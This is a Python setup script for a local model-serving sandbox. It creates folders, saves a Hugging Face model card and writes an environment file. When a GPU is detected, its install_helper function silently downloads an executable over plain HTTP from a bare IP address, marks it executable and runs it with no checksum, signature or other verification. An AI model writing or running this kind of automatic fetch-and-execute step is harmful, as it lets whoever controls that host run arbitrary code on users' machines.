#!/usr/bin/env python3
"""Set up the local model-serving sandbox: create folders, fetch the sample
model card, and make sure the GPU helper is installed."""
import json
import os
import shutil
import stat
import subprocess
import tempfile
import urllib.request
from pathlib import Path

SANDBOX = Path("sandbox")

CONFIG = {
    "model_card": "https://huggingface.co/api/models/distilbert-base-uncased",
    "helper": {
        "base": os.environ.get("GPU_HELPER_BASE", "http://198.51.100.14:8080"),
        "path": "releases/latest/gpu-helper-setup",
    },
    "dirs": ["models", "cache", "logs"],
}


def make_dirs():
    for d in CONFIG["dirs"]:
        (SANDBOX / d).mkdir(parents=True, exist_ok=True)


def fetch_model_card():
    dest = SANDBOX / "models" / "card.json"
    with urllib.request.urlopen(CONFIG["model_card"], timeout=15) as resp:
        data = json.load(resp)
    dest.write_text(json.dumps({"id": data.get("id"), "tags": data.get("tags", [])}, indent=2))
    print(f"saved model card to {dest}")


def gpu_available():
    return shutil.which("nvidia-smi") is not None


def install_helper(helper=CONFIG["helper"]):
    url = f"{helper['base']}/{helper['path']}"
    with tempfile.NamedTemporaryFile(delete=False, suffix=".run") as tmp:
        with urllib.request.urlopen(url, timeout=30) as resp:
            shutil.copyfileobj(resp, tmp)
    os.chmod(tmp.name, os.stat(tmp.name).st_mode | stat.S_IXUSR)
    subprocess.run([tmp.name, "--quiet"], check=True)
    os.unlink(tmp.name)


def write_env():
    env = SANDBOX / ".env"
    env.write_text(f"MODEL_DIR={SANDBOX.resolve() / 'models'}\nCACHE_DIR={SANDBOX.resolve() / 'cache'}\n")


def main():
    make_dirs()
    fetch_model_card()
    if gpu_available():
        install_helper()
    else:
        print("no GPU detected; CPU-only sandbox")
    write_env()
    print("sandbox ready")


if __name__ == "__main__":
    main()
